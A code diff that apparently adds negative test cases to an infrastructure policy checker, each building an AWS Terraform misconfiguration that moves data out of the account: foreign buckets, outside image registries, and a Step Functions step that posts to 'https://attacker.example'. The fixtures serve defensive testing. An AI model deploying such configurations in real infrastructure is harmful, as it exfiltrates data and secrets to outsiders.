@@ -266,3 +266,58 @@ def queue_of_another_account_in_the_environment(cell: Cell) -> None:
     """The agent reports to a stranger's queue."""
     there = f"https://sqs.eu-west-1.amazonaws.com/{STRANGER}/theirs"
     cell.environment(cell.part("task"), "STUDIO_EVENTS_QUEUE_URL", there)
+
+
+@breach("residency-transfer")
+def images_taken_from_the_internet(cell: Cell) -> None:
+    """The registry fetches whatever image is asked for, and its tags move."""
+    there = {"ecr_repository_prefix": "hub", "upstream_registry_url": "registry-1.docker.io"}
+    cell.add("aws_ecr_pull_through_cache_rule", **there)
+
+
+@breach("residency-transfer")
+def images_taken_from_another_account(cell: Cell) -> None:
+    """A stranger decides what code the registry holds."""
+    there = f"{STRANGER}.dkr.ecr.eu-west-1.amazonaws.com"
+    rule = {"ecr_repository_prefix": "theirs", "upstream_registry_url": there}
+    cell.add("aws_ecr_pull_through_cache_rule", **rule)
+
+
+@breach("residency-transfer")
+def alarms_to_a_telephone(cell: Cell) -> None:
+    """Push messages go through the servers of whoever made the telephone."""
+    there = f"arn:aws:sns:eu-west-1:{OWN}:app/GCM/acme"
+    body = {"protocol": "application", "endpoint": there}
+    cell.add("aws_sns_topic_subscription", topic_arn=cell.ref("topic"), **body)
+
+
+@breach("residency-transfer", "egress-undeclared")
+def events_to_a_web_server_that_stands_already(cell: Cell) -> None:
+    """The destination is not of this stack; what it is shows in its ARN."""
+    there = f"arn:aws:events:eu-west-1:{OWN}:api-destination/theirs/0"
+    cell.add("aws_cloudwatch_event_target", rule="acme-all", arn=there)
+
+
+@breach("residency-transfer", "egress-undeclared")
+def workflow_that_calls_a_web_server(cell: Cell) -> None:
+    """A step of a state machine posts to the internet."""
+    call = {"Type": "Task", "Resource": "arn:aws:states:::http:invoke", "End": True}
+    call["Parameters"] = {"ApiEndpoint": "https://attacker.example", "Method": "POST"}
+    definition = json.dumps({"StartAt": "post", "States": {"post": call}})
+    role = cell.ref("door")
+    cell.add("aws_sfn_state_machine", name="acme-x", role_arn=role, definition=definition)
+
+
+@breach("isolation-account", "residency-transfer")
+def object_in_a_foreign_bucket(cell: Cell) -> None:
+    """What Terraform knows is written into a stranger's store."""
+    body = {"bucket": "strangers-drop", "key": "x", "content": cell.ref("key")}
+    cell.add("aws_s3_object", **body)
+
+
+@breach("isolation-account", "residency-transfer")
+def access_logs_of_a_balancer_to_a_foreign_bucket(cell: Cell) -> None:
+    """Who asks for what goes to a stranger."""
+    logs = {"bucket": "strangers-logs", "enabled": True}
+    subnets = [cell.ref("subnet", "id")]
+    cell.add("aws_lb", name="acme-x", internal=True, subnets=subnets, access_logs=logs)
